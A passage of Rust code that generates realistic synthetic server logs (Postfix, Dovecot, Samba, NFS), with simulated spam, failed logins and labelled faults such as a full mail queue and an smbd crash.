                ip: format!("209.85.{}.{}", r.range(128, 223), r.range(1, 254)),
                helo: host.clone(),
                host,
                from: format!(
                    "{}{}@gmail.com",
                    person(r),
                    if r.chance(0.4) {
                        r.range(1, 99).to_string()
                    } else {
                        String::new()
                    }
                ),
                msgid: format!(
                    "CA{}@mail.gmail.com",
                    rs(
                        r,
                        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+_-=",
                        50
                    )
                ),
                bdat: true,
                tls: TLS13,
            }
        }
        30..=49 => {
            let reg = *r.pick(&["eur02", "eur03", "eur04", "eur05", "eur01"]);
            let host = format!(
                "mail-{}{}{}on{}.outbound.protection.outlook.com",
                r.pick(&["am", "db", "vi", "he", "pa", "du", "as"]),
                r.below(10),
                reg,
                r.range(2040, 2139)
            );
            let box_ = format!(
                "{}{}PR0{}MB{}",
                r.pick(&["AM", "DB", "PA", "DU", "AS"]),
                r.below(10),
                r.range(1, 9),
                r.range(1000, 9999)
            );
            Peer {
                ip: format!("40.107.{}.{}", r.range(1, 255), r.range(1, 254)),
                helo: format!("{reg}.smtp.protection.outlook.com").replace("eur", "EUR"),
                host,
                from: format!("{}@{}", person(r), r.pick(&O365)),
                msgid: format!(
                    "{box_}{}@{box_}.{}prd0{}.prod.outlook.com",
                    rs(r, HEXU, 24),
                    reg.trim_end_matches(char::is_numeric),
                    r.range(1, 9)
                ),
                bdat: true,
                tls: TLS13,
            }
        }
        50..=59 => {
            let gmx = r.chance(0.5);
            let (host, ip, dom) = if gmx {
                (
                    "mout.gmx.net".to_string(),
                    format!("212.227.17.{}", r.range(20, 22)),
                    "gmx.net",
                )
            } else {
                (
                    "mout.web.de".to_string(),
                    format!("217.72.192.{}", r.range(73, 78)),
                    "web.de",
                )
            };
            Peer {
                helo: host.clone(),
                host,
                ip,
                from: format!("{}@{dom}", person(r)),
                msgid: if gmx {
                    format!(
                        "trinity-{}-{}@3c-app-gmx-bap{:02}",
                        uuid(r),
                        t / 1000,
                        r.range(1, 70)
                    )
                } else {
                    format!("{}@web.de", uuid(r))
                },
                bdat: false,
                tls: TLS13,
            }
        }
        60..=74 => {
            let host = format!(
                "a{}-{}.smtp-out.eu-west-1.amazonses.com",
                r.range(1, 9),
                r.range(1, 250)
            );
            let list = *r.pick(&[
                "news@mail.screwfix.com",
                "no-reply@notifications.hmrc.gov.uk",
                "updates@email.xero.com",
                "noreply@github.com",
                "billing@eu.zoom.us",
                "info@mailing.ryanair.com",
            ]);
            Peer {
                ip: format!("54.240.{}.{}", r.range(0, 7), r.range(1, 254)),
                helo: host.clone(),
                host,
                from: list.to_string(),
                msgid: format!(
                    "0102{}-{}-000000@eu-west-1.amazonses.com",
                    rs(r, HEXL, 12),
                    uuid(r)
                ),
                bdat: false,
                tls: TLS12,
            }
        }
        75..=82 => {
            let host = format!("o{}.ptr{}.sendgrid.net", r.range(1, 9), r.range(1000, 9999));
            Peer {
                ip: format!("149.72.{}.{}", r.range(0, 255), r.range(1, 254)),
                helo: host.clone(),
                host,
                from: format!(
                    "bounces+{}-{}@em{}.{}",
                    r.range(1_000_000, 9_999_999),
                    rs(r, HEXL, 4),
                    r.range(100, 9999),
                    r.pick(&["eventbrite.com", "trello.com", "linkedin.com"])
                ),
                msgid: format!(
                    "{}@geopod-ismtpd-{}",
                    rs(
                        r,
                        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
                        22
                    ),
                    r.range(1, 40)
                ),
                bdat: false,
                tls: TLS12,
            }
        }
        _ => {
            let (host, ip, dom) = *r.pick(&PARTNERS);
            Peer {
                host: host.to_string(),
                ip: ip.to_string(),
                helo: host.to_string(),
                from: format!("{}@{dom}", person(r)),
                msgid: if r.chance(0.5) {
                    format!("{}@{dom}", uuid(r))
                } else {
                    format!("{}.{}@{host}", compact(t), rs(r, HEXU, 10))
                },
                bdat: false,
                tls: if r.chance(0.7) { TLS13 } else { TLS12 },
            }
        }
    }
}

/// Where an outgoing message goes: (recipient, mx host, mx ip, TLS trust, 250 reply).
fn outbound_dest(
    r: &mut Rng,
    t: u64,
    msgid: &str,
    size: u64,
) -> (String, String, String, &'static str, String) {
    match r.below(10) {
        0..=3 => {
            let ip = format!(
                "142.250.{}.{}",
                r.pick(&["102", "110", "150", "153"]),
                r.pick(&["26", "27"])
            );
            let reply = format!(
                "250 2.0.0 OK  {} {}-{}si{}{}.{} - gsmtp",
                t / SEC,
                rs(r, LOWNUM, 13),
                rs(r, LOWNUM, 11),
                r.range(1_000_000, 9_999_999),
                rs(r, LOWNUM, 3),
                r.range(1, 999)
            );
            (
                format!("{}@gmail.com", person(r)),
                "gmail-smtp-in.l.google.com".into(),
                ip,
                "Trusted",
                reply,
            )
        }
        4..=6 => {
            let dom = *r.pick(&O365);
            let mx = format!("{}.mail.protection.outlook.com", dom.replace('.', "-"));
            let box_ = format!(
                "{}{}PR0{}MB{}",
                r.pick(&["AM", "DB", "PA", "DU"]),
                r.below(10),
                r.range(1, 9),
                r.range(1000, 9999)
            );
            let reply = format!("250 2.6.0 <{msgid}> [InternalId={}, Hostname={box_}.eurprd0{}.prod.outlook.com] {} bytes in {:.3}, {:.3} KB/sec Queued mail for delivery", r.range(10_000_000_000_000, 99_999_999_999_999), r.range(1, 9), size + r.below(4000), 0.05 + r.f() * 0.4, 20.0 + r.f() * 900.0);
            (
                format!("{}@{dom}", person(r)),
                mx,
                format!("52.101.{}.{}", r.range(0, 255), r.range(1, 254)),
                "Trusted",
                reply,
            )
        }
        _ => {
            let (host, ip, dom) = *r.pick(&PARTNERS);
            let reply = format!(
                "250 2.0.0 Ok: queued as 4X{}",
                rs(
                    r,
                    b"BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789",
                    13
                )
            );
            (
                format!("{}@{dom}", person(r)),
                host.into(),
                ip.into(),
                if r.chance(0.6) {
                    "Untrusted"
                } else {
                    "Verified"
                },
                reply,
            )
        }
    }
}

fn pick_user(g: &Gen, r: &mut Rng) -> usize {
    let total: f64 = g.users.iter().map(|u| u.weight).sum();
    let mut x = r.f() * total;
    for (i, u) in g.users.iter().enumerate() {
        x -= u.weight;
        if x <= 0.0 {
            return i;
        }
    }
    g.users.len() - 1
}

fn mail(g: &mut Gen) {
    let mut r = g.rng(0x81);
    let mut evs: Vec<(u64, MailKind)> = Vec::new();
    for t in poisson_times(&mut r, T0, T_END, |t| 0.5 + 3.8 * activity(t)) {
        evs.push((t, MailKind::In));
    }
    for t in poisson_times(&mut r, T0, T_END, |t| 0.05 + 1.8 * activity(t)) {
        evs.push((t, MailKind::Out));
    }
    for t in poisson_times(&mut r, T0, T_END, |t| 0.02 + 0.8 * activity(t)) {
        evs.push((t, MailKind::Internal));
    }
    for t in poisson_times(&mut r, T0, T_END, |t| 0.5 + 0.3 * activity(t)) {
        evs.push((t, MailKind::Spam));
    }
    for t in poisson_times(&mut r, T0, T_END, |_| 0.2) {
        evs.push((t, MailKind::Sasl));
    }
    for d in 0..NDAYS {
        // the daily report some cron.daily script mails to root
        evs.push((at(d, 6, 25, 0) + r.us(2.0, 5.0), MailKind::Local));
    }
    // at least one sender runs into the full queue
    evs.push((g.p.full_t + r.us(40.0, 200.0), MailKind::In));
    for &t in &g.local_mail.clone() {
        evs.push((t, MailKind::Local));
    }
    evs.sort_by_key(|e| e.0);

    let mut smtpd = Pool::new(100, 0);
    let mut sub = Pool::new(100, 1);
    let mut cleanup = Pool::new(100, 2);
    let mut lmtp = Pool::new(100, 3);
    let mut smtp = Pool::new(100, 4);
    let mut local = Pool::new(100, 5);
    let mut pickup = Pool::new(6 * 3600, 6);
    let mut dlmtp = Pool::new(60, 7);
    let qmgr = Some(g.d.qmgr);
    let dov = Some(g.d.dovecot);
    let fqdn = g.fqdn.clone();
    let dom = g.dom;
    let mut anvil_hour = u64::MAX;
    let mut last_in_ip = String::from("209.85.218.54");

    for (t0, kind) in evs {
        let full = (g.p.full_t..g.p.full_end).contains(&t0);
        let size = ((r.normal() * 1.25 + 9.4).exp() as u64).clamp(900, 24_000_000);
        match kind {
            MailKind::In | MailKind::Internal | MailKind::Out => {
                let (ident, pid, host, ip, from, msgid, tls, bdat, helo, user) =
                    if kind == MailKind::In {
                        let p = inbound_peer(&mut r, t0);
                        last_in_ip = p.ip.clone();
                        (
                            "postfix/smtpd",
                            smtpd.get(g, &mut r, t0),
                            p.host,
                            p.ip,
                            p.from,
                            p.msgid,
                            p.tls,
                            p.bdat,
                            p.helo,
                            None,
                        )
                    } else {
                        let u = pick_user(g, &mut r);
                        let ip = if working(t0) || g.users[u].phone.is_none() {
                            g.users[u].ip.clone()
                        } else {
                            g.users[u].phone.clone().unwrap()
                        };
                        let host = g.users[u].host.to_uppercase();
                        let msgid = match r.below(3) {
                            0 => format!("{}@{dom}", uuid(&mut r)),
                            1 => format!(
                                "000001d9{}${}${}$@{dom}",
                                rs(&mut r, HEXL, 4),
                                rs(&mut r, HEXL, 8),
                                rs(&mut r, HEXL, 8)
                            ),
                            _ => format!("{}@{dom}", uuid(&mut r).to_uppercase()),
                        };
                        (
                            "postfix/submission/smtpd",
                            sub.get(g, &mut r, t0),
                            "unknown".to_string(),
                            ip,
                            format!("{}@{dom}", g.users[u].name),
                            msgid,
                            TLS13,
                            false,
                            host,
                            Some(u),
                        )
                    };
                g.push(
                    t0,
                    ident,
                    Some(pid),
                    format!("connect from {host}[{ip}]"),
                    None,
                );
                let t1 = t0 + r.us(0.05, 0.3);
                g.push(
                    t1,
                    ident,
                    Some(pid),
                    format!("Anonymous TLS connection established from {host}[{ip}]: {tls}"),
                    None,
                );
                if full {
                    let l = Some("disk-full");
                    let t2 = t1 + r.us(0.1, 0.6);
                    g.push(t2, ident, Some(pid), format!("warning: not enough free space in mail queue: {} bytes < 1.5*message size limit", r.below(40_000_000)), l);
                    g.push(t2 + 300, ident, Some(pid), format!("NOQUEUE: reject: MAIL from {host}[{ip}]: 452 4.3.1 Insufficient system storage; proto=ESMTP helo=<{helo}>"), l);
                    let auth = if user.is_some() { " auth=1" } else { "" };
                    g.push(t2 + r.us(0.05, 0.4), ident, Some(pid), format!("disconnect from {host}[{ip}] ehlo=2 starttls=1{auth} mail=0/1 quit=1 commands={}/{}", 4 + user.is_some() as u32, 5 + user.is_some() as u32), None);
                    continue;
                }
                let q = qid(&mut r);
                let t2 = t1 + r.us(0.15, 1.2);
                match user {
                    None => g.push(
                        t2,
                        ident,
                        Some(pid),
                        format!("{q}: client={host}[{ip}]"),
                        None,
                    ),
                    Some(u) => g.push(
                        t2,
                        ident,
                        Some(pid),
                        format!(
                            "{q}: client={host}[{ip}], sasl_method=PLAIN, sasl_username={}",
                            g.users[u].name
                        ),
                        None,
                    ),
                }
                let cp = cleanup.get(g, &mut r, t2);
                let t3 = t2 + r.us(0.05, 0.5) + size / 20;
                g.push(
                    t3,
                    "postfix/cleanup",
                    Some(cp),
                    format!("{q}: message-id=<{msgid}>"),
                    None,
                );
                let nr = if kind == MailKind::Out || r.chance(0.85) {
                    1
                } else if r.chance(0.8) {
                    2
                } else {
                    3
                };
                let t4 = t3 + r.us(0.002, 0.02);
                g.push(
                    t4,
                    "postfix/qmgr",
                    qmgr,
                    format!("{q}: from=<{from}>, size={size}, nrcpt={nr} (queue active)"),
                    None,
                );
                let cmds = if user.is_some() { 7 + nr } else { 6 + nr };
                let data = if bdat { "bdat=1" } else { "data=1" };
                let auth = if user.is_some() { " auth=1" } else { "" };
                g.push(t4 + r.us(0.01, 0.3), ident, Some(pid), format!("disconnect from {host}[{ip}] ehlo=2 starttls=1{auth} mail=1 rcpt={nr} {data} quit=1 commands={cmds}"), None);
                let mut te = t4;
                if kind == MailKind::Out {
                    let (rcpt, mx, mxip, trust, reply) = outbound_dest(&mut r, t4, &msgid, size);
                    let sp = smtp.get(g, &mut r, t4);
                    let ts = t4 + r.us(0.1, 0.5);
                    g.push(ts, "postfix/smtp", Some(sp), format!("{trust} TLS connection established to {mx}[{mxip}]:25: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature {} server-digest SHA256", if trust == "Trusted" { "ECDSA (P-256)" } else { "RSA-PSS (2048 bits)" }), None);
                    let a = (t4 - t0) as f64 / 1e6;
                    let c = r.f() * 0.4 + 0.05;
                    let dd = r.f() * 0.8 + 0.1 + size as f64 / 4e6;
                    te = ts + ((c + dd) * 1e6) as u64;
                    if r.chance(0.05) && trust != "Trusted" {
                        g.push(te, "postfix/smtp", Some(sp), format!("{q}: to=<{rcpt}>, relay={mx}[{mxip}]:25, delay={}, delays={}/0.01/{}/{}, dsn=4.7.1, status=deferred (host {mx}[{mxip}] said: 451 4.7.1 Greylisting in action, please come back later (in reply to RCPT TO command))", pf(a + c + dd), pf(a), pf(c), pf(dd)), None);
                        let tr = te + r.us(300.0, 900.0);
                        g.push(
                            tr,
                            "postfix/qmgr",
                            qmgr,
                            format!("{q}: from=<{from}>, size={size}, nrcpt=1 (queue active)"),
                            None,
                        );
                        let sp2 = smtp.get(g, &mut r, tr);
                        te = tr + r.us(0.5, 2.0);
                        let total = (te - t0) as f64 / 1e6;
                        g.push(te, "postfix/smtp", Some(sp2), format!("{q}: to=<{rcpt}>, relay={mx}[{mxip}]:25, delay={}, delays={}/{}/{}/{}, dsn=2.0.0, status=sent ({reply})", pf(total), pf(total - 1.2), pf(0.01), pf(0.4), pf(0.6)), None);
                    } else {
                        g.push(te, "postfix/smtp", Some(sp), format!("{q}: to=<{rcpt}>, relay={mx}[{mxip}]:25, delay={}, delays={}/{}/{}/{}, dsn=2.0.0, status=sent ({reply})", pf(a + 0.01 + c + dd), pf(a), pf(0.01), pf(c), pf(dd)), None);
                    }
                } else {
                    let lp = lmtp.get(g, &mut r, t4);
                    let mut rc: Vec<usize> = Vec::new();
                    while rc.len() < nr as usize {
                        let u = pick_user(g, &mut r);
                        if !rc.contains(&u) && Some(u) != user {
                            rc.push(u);
                        }
                    }
                    let dp = dlmtp.get(g, &mut r, t4);
                    let sid = rs(&mut r, B64, 22);
                    for u in rc {
                        let name = g.users[u].name;
                        let td = te + r.us(0.02, 0.25);
                        let folder = if kind == MailKind::In && r.chance(0.12) {
                            "stored mail into mailbox 'Junk'"
                        } else {
                            "saved mail to INBOX"
                        };
                        if folder.starts_with("stored") {
                            g.push(
                                td,
                                "dovecot",
                                dov,
                                format!(
                                    "lmtp({name})<{dp}><{sid}>: sieve: msgid=<{msgid}>: {folder}"
                                ),
                                None,
                            );
                        } else {
                            g.push(
                                td,
                                "dovecot",
                                dov,
                                format!("lmtp({name})<{dp}><{sid}>: msgid=<{msgid}>: {folder}"),
                                None,
                            );
                        }
                        let a = (t4 - t0) as f64 / 1e6;
                        let dd = (td - t4) as f64 / 1e6;
                        g.push(td + 2_000, "postfix/lmtp", Some(lp), format!("{q}: to=<{name}@{dom}>, relay={fqdn}[private/dovecot-lmtp], delay={}, delays={}/0.01/0.01/{}, dsn=2.0.0, status=sent (250 2.0.0 <{name}@{dom}> {sid} Saved)", pf(a + 0.02 + dd), pf(a), pf(dd)), None);
                        te = td + 2_000;
                    }
                }
                g.push(
                    te + r.us(0.001, 0.01),
                    "postfix/qmgr",
                    qmgr,
                    format!("{q}: removed"),
                    None,
                );
                // anvil statistics once in a while during busy hours
                let hour = (t0 - T0) / HOUR;
                if kind == MailKind::In
                    && hour != anvil_hour
                    && activity(t0) > 0.5
                    && r.chance(0.07)
                {
                    anvil_hour = hour;
                    let ta = t0 + r.us(600.0, 700.0);
                    let ap = g.pid_at(&mut r, t0 - 100 * SEC);
                    let seen = t0 - r.below(5 * MIN);
                    g.push(
                        ta,
                        "postfix/anvil",
                        Some(ap),
                        format!(
                            "statistics: max connection rate {}/60s for (smtp:{last_in_ip}) at {}",
                            r.range(1, 3),
                            syslog_ts(seen)
                        ),
                        None,
                    );
                    g.push(
                        ta + 30,
                        "postfix/anvil",
                        Some(ap),
                        format!(
                            "statistics: max connection count 1 for (smtp:{last_in_ip}) at {}",
                            syslog_ts(seen)
                        ),
                        None,
                    );
                    g.push(
                        ta + 60,
                        "postfix/anvil",
                        Some(ap),
                        format!(
                            "statistics: max cache size {} at {}",
                            r.range(1, 4),
                            syslog_ts(seen + r.below(2 * MIN))
                        ),
                        None,
                    );
                }
            }
            MailKind::Spam => {
                let pid = smtpd.get(g, &mut r, t0);
                let ip = ext_ip(&mut r);
                let rcpt = if r.chance(0.3) {
                    format!(
                        "{}@{dom}",
                        r.pick(&["info", "sales", "admin", "office", "accounts", "hr", "contact"])
                    )
                } else {
                    format!("{}@{dom}", g.users[pick_user(g, &mut r)].name)
                };
                let from = format!(
                    "{}@{}.{}",
                    rs(&mut r, b"abcdefghijklmnopqrstuvwxyz", 6),
                    rs(&mut r, b"abcdefghijklmnopqrstuvwxyz", 7),
                    r.pick(&["top", "xyz", "ru", "info", "com", "shop", "online"])
                );
                let helo = match r.below(3) {
                    0 => format!("WIN-{}", rs(&mut r, UPNUM, 11)),
                    1 => format!("[{ip}]"),
                    _ => format!(
                        "{}.{}",
                        rs(&mut r, b"abcdefghijklmnopqrstuvwxyz", 8),
                        r.pick(&["com", "net", "top"])
                    ),
                };
                let mut t = t0;
                let host = "unknown";
                if r.chance(0.35) {
                    let h = format!(
                        "{}.static.{}.net",
                        ip.replace('.', "-"),
                        rs(&mut r, b"abcdefghijklmnopqrstuvwxyz", 5)
                    );
                    g.push(t, "postfix/smtpd", Some(pid), format!("warning: hostname {h} does not resolve to address {ip}: Name or service not known"), None);
                    t += 1_000;
                }
                g.push(
                    t,
                    "postfix/smtpd",
                    Some(pid),
                    format!("connect from {host}[{ip}]"),
                    None,
                );
                let tr = t + r.us(0.3, 2.5);
                let msg = match r.below(4) {
                    0 | 1 => format!("NOQUEUE: reject: RCPT from {host}[{ip}]: 554 5.7.1 Service unavailable; Client host [{ip}] blocked using zen.spamhaus.org; https://www.spamhaus.org/query/ip/{ip}; from=<{from}> to=<{rcpt}> proto=ESMTP helo=<{helo}>"),
                    2 => format!("NOQUEUE: reject: RCPT from {host}[{ip}]: 450 4.7.25 Client host rejected: cannot find your hostname, [{ip}]; from=<{from}> to=<{rcpt}> proto=ESMTP helo=<{helo}>"),
                    _ => {
                        let nobody = format!("{}@{dom}", person(&mut r));
                        format!("NOQUEUE: reject: RCPT from {host}[{ip}]: 550 5.1.1 <{nobody}>: Recipient address rejected: User unknown in virtual mailbox table; from=<{from}> to=<{nobody}> proto=ESMTP helo=<{helo}>")
                    }
                };
                g.push(tr, "postfix/smtpd", Some(pid), msg, None);
                let quit = r.chance(0.6);
                if quit {
                    g.push(tr + r.us(0.05, 0.6), "postfix/smtpd", Some(pid), format!("disconnect from {host}[{ip}] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4"), None);
                } else {
                    g.push(
                        tr + r.us(0.05, 0.6),
                        "postfix/smtpd",
                        Some(pid),
                        format!("disconnect from {host}[{ip}] ehlo=1 mail=1 rcpt=0/1 commands=2/3"),
                        None,
                    );
                }
            }
            MailKind::Sasl => {
                let pid = sub.get(g, &mut r, t0);
                let ip = ext_ip(&mut r);
                g.push(
                    t0,
                    "postfix/submission/smtpd",
                    Some(pid),
                    format!("connect from unknown[{ip}]"),
                    None,
                );
                let t1 = t0 + r.us(1.0, 4.0);
                g.push(
                    t1,
                    "postfix/submission/smtpd",
                    Some(pid),
                    format!(
                        "warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6"
                    ),
                    None,
                );
                g.push(
                    t1 + r.us(0.1, 2.0),
                    "postfix/submission/smtpd",
                    Some(pid),
                    format!("lost connection after AUTH from unknown[{ip}]"),
                    None,
                );
                g.push(
                    t1 + r.us(2.1, 2.3),
                    "postfix/submission/smtpd",
                    Some(pid),
                    format!("disconnect from unknown[{ip}] ehlo=1 auth=0/1 commands=1/2"),
                    None,
                );
            }
            MailKind::Local => {
                if full {
                    continue; // postdrop fails; see faults()
                }
                let q = qid(&mut r);
                let pp = pickup.get(g, &mut r, t0);
                g.push(
                    t0,
                    "postfix/pickup",
                    Some(pp),
                    format!("{q}: uid=0 from=<root>"),
                    None,
                );
                let cp = cleanup.get(g, &mut r, t0);
                g.push(
                    t0 + r.us(0.005, 0.05),
                    "postfix/cleanup",
                    Some(cp),
                    format!("{q}: message-id=<{}.{q}@{fqdn}>", compact(t0)),
                    None,
                );
                let t2 = t0 + r.us(0.06, 0.1);
                let sz = r.range(700, 6000);
                g.push(
                    t2,
                    "postfix/qmgr",
                    qmgr,
                    format!("{q}: from=<root@{fqdn}>, size={sz}, nrcpt=1 (queue active)"),
                    None,
                );
                let lp = local.get(g, &mut r, t2);
                let t3 = t2 + r.us(0.005, 0.05);
                g.push(t3, "postfix/local", Some(lp), format!("{q}: to=<root@{fqdn}>, orig_to=<root>, relay=local, delay={}, delays={}/0.01/0/{}, dsn=2.0.0, status=sent (delivered to mailbox)", pf((t3 - t0) as f64 / 1e6), pf((t2 - t0) as f64 / 1e6), pf((t3 - t2) as f64 / 1e6)), None);
                g.push(
                    t3 + r.us(0.001, 0.005),
                    "postfix/qmgr",
                    qmgr,
                    format!("{q}: removed"),
                    None,
                );
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// dovecot IMAP

fn imap(g: &mut Gen) {
    let mut r = g.rng(0x91);
    let dov = Some(g.d.dovecot);
    for t in poisson_times(&mut r, T0, T_END, |t| 0.4 + 7.0 * activity(t)) {
        let u = pick_user(g, &mut r);
        let name = g.users[u].name;
        let ip = if working(t) && r.chance(0.8) {
            g.users[u].ip.clone()
        } else if let Some(p) = &g.users[u].phone {
            p.clone()
        } else if r.chance(0.5) {
            g.users[u].vpn.clone()
        } else {
            continue;
        };
        let sess = rs(&mut r, B64, 16);
        if r.chance(0.025) {
            let ap = g.pid_at(&mut r, t - 30 * MIN);
            g.push(t, "dovecot", dov, format!("auth-worker({ap}): pam({name},{ip},<{sess}>): pam_authenticate() failed: Authentication failure (Password mismatch?)"), None);
            g.push(t + r.us(2.0, 2.3), "dovecot", dov, format!("imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): user=<{name}>, method=PLAIN, rip={ip}, lip={SERVER_IP}, TLS, session=<{sess}>"), None);
            continue;
        }
        let mpid = g.pid_at(&mut r, t);
        g.push(t, "dovecot", dov, format!("imap-login: Login: user=<{name}>, method=PLAIN, rip={ip}, lip={SERVER_IP}, mpid={mpid}, TLS, session=<{sess}>"), None);
        let dur = (r.exp(25.0 * 60.0) + 2.0).min(6.0 * 3600.0);
        let e = t + (dur * 1e6) as u64;
        let inb = 40 + r.below(300) + (dur as u64 / 30) * r.range(10, 40);
        let out = 300 + (r.exp(40_000.0)) as u64;
        let bodies = r.below(12);
        let hdrs = r.below(30);
        let deleted = r.below(3);
        let tail = format!(
            "in={inb} out={out} deleted={deleted} expunged={} trashed={} hdr_count={hdrs} hdr_bytes={} body_count={bodies} body_bytes={}",
            deleted.min(r.below(3)),
            r.below(2),
            hdrs * r.range(400, 900),
            bodies * r.range(2_000, 60_000)
        );
        let msg = match r.below(10) {
            0..=5 => format!("imap({name})<{mpid}><{sess}>: Logged out {tail}"),
            6..=8 => format!("imap({name})<{mpid}><{sess}>: Disconnected: Connection closed (IDLE finished {:.3} secs ago) {tail}", r.f() * 1800.0),
            _ => format!("imap({name})<{mpid}><{sess}>: Disconnected: Connection closed (UID FETCH finished {:.3} secs ago) {tail}", r.f() * 5.0),
        };
        g.push(e, "dovecot", dov, msg, None);
    }
}

// ---------------------------------------------------------------------------------------------
// samba

fn smb(g: &mut Gen, t: u64, pid: u32, src: &str, body: String) {
    g.push(
        t,
        "smbd",
        Some(pid),
        format!("[{},  2] ../../source3/smbd/{src}", samba_ts(t)),
        None,
    );
    g.push(t + 40, "smbd", Some(pid), body, None);
}

fn samba(g: &mut Gen) {
    let mut r = g.rng(0xA1);
    let connect = "smb2_service.c:772(make_connection_snum)";
    let close = "smb2_service.c:1128(close_cnum)";
    let mut crashed = false;
    for d in 0..NDAYS {
        for u in 0..g.users.len() {
            if !g.users[u].pc {
                continue;
            }
            let present = if weekday(d) {
                r.chance(0.85)
            } else {
                r.chance(0.06)
            };
            if !present {
                continue;
            }
            let (arrive, leave) = if weekday(d) {
                let a = 8.5 + r.normal() * 0.4;
                let l = if d == 4 { 16.4 } else { 17.3 } + r.normal() * 0.6;
                (a.clamp(7.3, 10.5), l.clamp(15.0, 20.5))
            } else {
                let a = 10.0 + r.f() * 5.0;
                (a, a + 0.5 + r.f() * 3.0)
            };
            let mut spans = vec![(arrive, leave)];
            if r.chance(0.3) && leave - arrive > 3.0 {
                // a laptop that sleeps over lunch
                let m = 12.0 + r.f() * 1.5;
                spans = vec![(arrive, m), (m + 0.3 + r.f() * 0.7, leave)];
            }
            let name = g.users[u].name;
            let uid = g.users[u].uid;
            let host = g.users[u].host.clone();
            let ip = g.users[u].ip.clone();
            let mut shares = vec!["shared".to_string()];
            if r.chance(0.4) {
                shares.push(name.to_string());
            }
            if r.chance(0.2) {
                shares.push((*r.pick(&["projects", "scans", "accounting"])).to_string());
            }
            for (a, l) in spans {
                let mut t = at(d, 0, 0, 0) + (a * HOUR as f64) as u64;
                let end = at(d, 0, 0, 0) + (l * HOUR as f64) as u64;
                loop {
                    let pid = g.pid_at(&mut r, t);
                    let port = r.win_port();
                    let who = format!("  {host} (ipv4:{ip}:{port})");
                    for (k, sh) in shares.iter().enumerate() {
                        let tk = t + 300_000 + k as u64 * r.us(0.05, 0.4);
                        smb(g, tk, pid, connect, format!("{who} connect to service {sh} initially as user {name} (uid={uid}, gid={uid}) (pid {pid})"));
                    }
                    let ct = g.p.crash_t;
                    if !crashed && t < ct && ct < end {
                        crashed = true;
                        crash(g, &mut r, ct, pid, uid);
                        t = ct + r.us(4.0, 20.0);
                        continue; // the client reconnects with a new smbd
                    }
                    for (k, sh) in shares.iter().enumerate() {
                        let tk = end + k as u64 * 20_000;
                        smb(
                            g,
                            tk,
                            pid,
                            close,
                            format!("{who} closed connection to service {sh}"),
                        );
                    }
                    break;
                }
            }
        }
    }
    if !crashed {
        let ct = g.p.crash_t;
        let pid = g.pid_at(&mut r, ct - HOUR);
        let uid = g.users[0].uid;
        crash(g, &mut r, ct, pid, uid);
    }
}

fn crash(g: &mut Gen, r: &mut Rng, t: u64, pid: u32, uid: u32) {
    let l = Some("crash");
    let base = 0x7f00_0000_0000u64 + r.below(0xff_ffff) * 0x1000;
    let off = 0xd000 + r.below(0x1e000);
    let ip = base + off;
    let sp = (0x7ffc_0000_0000u64 + r.below(0x3_ffff_fff0)) & !0xf;
    g.kern(t, format!("smbd[{pid}]: segfault at 0 ip {ip:016x} sp {sp:016x} error 4 in libsmbconf.so.0[{base:x}+2d000] likely on CPU {} (core {}, socket 0)", r.range(0, 3), r.range(0, 3)), l);
    let mut code = String::from("Code:");
    for i in 0..42 {
        let b = rs(r, HEXL, 2);
        if i == 21 {
            let _ = write!(code, " <{b}>");
        } else {
            let _ = write!(code, " {b}");
        }
    }
    g.kern(t + 30, code, l);
    let cd = g.pid_at(r, t + 5_000);
    let t2 = t + r.us(0.01, 0.03);
    g.sysl(
        t2,
        format!("Started systemd-coredump@0-{cd}-0.service - Process Core Dump (PID {cd}/UID 0)."),
        l,
    );
    let f1 = base + 0x1_5000 + r.below(0x4000);
    let f2 = 0x7f00_0000_0000u64 + r.below(0xff_ffff) * 0x1000 + r.below(0x40000);
    let f3 = 0x7f00_0000_0000u64 + r.below(0xff_ffff) * 0x1000 + r.below(0x40000);
    let msg = format!(
        "Process {pid} (smbd) of user {uid} dumped core.\n\nModule libsmbconf.so.0 from deb samba-4.17.12+dfsg-0+deb12u1.amd64\nModule libsmbd-base-samba4.so from deb samba-4.17.12+dfsg-0+deb12u1.amd64\nStack trace of thread {pid}:\n#0  0x{ip:016x} n/a (libsmbconf.so.0 + 0x{off:x})\n#1  0x{f1:016x} n/a (libsmbconf.so.0 + 0x{:x})\n#2  0x{f2:016x} n/a (libsmbd-base-samba4.so + 0x{:x})\n#3  0x{f3:016x} n/a (libtevent.so.0 + 0x{:x})\nELF object binary architecture: AMD x86-64",
        f1 - base,
        r.range(0x40000, 0x1f0000),
        r.range(0x8000, 0xf000)
    );
    let t3 = t2 + r.us(0.3, 1.5);
    g.push(t3, "systemd-coredump", Some(cd), msg, l);
    g.sysl(
        t3 + r.us(0.02, 0.06),
        format!("systemd-coredump@0-{cd}-0.service: Deactivated successfully."),
        l,
    );
}

// ---------------------------------------------------------------------------------------------
// NFS mounts from the build hosts and Linux workstations (autofs)

fn nfs(g: &mut Gen) {
    let mut r = g.rng(0xB1);
    let clients: Vec<String> = (0..5)
        .map(|i| format!("10.20.0.{}", 61 + i * 2 + r.below(2)))
        .collect();
    let exports = ["/srv/nfs/projects", "/srv/nfs/builds", "/srv/nfs/home"];
    let mp = Some(g.d.mountd);
    for t in poisson_times(&mut r, T0, T_END, |t| 0.08 + 1.4 * activity(t)) {
        let c = r.pick(&clients).clone();
        let e = *r.pick(&exports);
        g.push(
            t,
            "rpc.mountd",
            mp,
            format!(
                "authenticated mount request from {c}:{} for {e} ({e})",
                r.range(600, 1023)
            ),
            None,
        );
        let u = t + r.us(600.0, 7200.0);
        g.push(
            u,
            "rpc.mountd",
            mp,
            format!(
                "authenticated unmount request from {c}:{} for {e} ({e})",
                r.range(600, 1023)
            ),
            None,
        );
    }
}

// ---------------------------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;

    fn days_with(lines: &[Line], kind: &str) -> Vec<u64> {
        let mut d: Vec<u64> = lines
            .iter()
            .filter(|l| l.label == Some(kind))
            .map(|l| (l.usec - T0) / DAY)
            .collect();
        d.dedup();
